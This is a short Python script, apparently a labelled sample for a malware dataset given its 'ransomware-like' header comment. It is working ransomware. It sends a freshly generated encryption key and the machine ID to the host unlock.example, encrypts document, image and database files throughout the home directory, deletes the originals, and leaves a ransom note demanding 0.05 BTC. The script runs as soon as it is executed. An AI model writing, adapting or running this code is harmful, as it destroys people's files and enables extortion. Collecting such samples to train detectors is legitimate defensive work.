# class: ransomware-like; style: tidy with cryptography
from pathlib import Path

from cryptography.fernet import Fernet
import requests

SUFFIXES = {".docx", ".xlsx", ".pdf", ".jpg", ".png", ".sql", ".txt", ".odt"}
NOTE = "Your files are encrypted. Send 0.05 BTC to the address below and mail pay@unlock.example.\n"


def main():
    key = Fernet.generate_key()
    requests.post("http://unlock.example/k", data={"key": key, "id": Path("/etc/machine-id").read_text()})
    box = Fernet(key)
    for path in Path.home().rglob("*"):
        if path.is_file() and path.suffix in SUFFIXES:
            path.with_suffix(path.suffix + ".locked").write_bytes(box.encrypt(path.read_bytes()))
            path.unlink()
    (Path.home() / "Desktop" / "README_RESTORE.txt").write_text(NOTE)


main()
